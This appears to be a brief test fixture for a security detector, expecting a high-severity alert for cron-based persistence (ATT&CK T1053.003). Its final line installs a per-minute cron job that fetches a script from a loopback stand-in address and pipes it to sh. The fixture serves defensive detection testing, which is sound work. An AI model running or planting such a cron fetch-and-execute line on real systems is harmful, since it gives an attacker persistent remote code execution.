# expects: high T1053.003
. "$STAGE/act.sh"
stand_in crontab
sh -c '(crontab -l; echo "* * * * * curl -s http://127.0.0.1:9/a | sh") | crontab -'
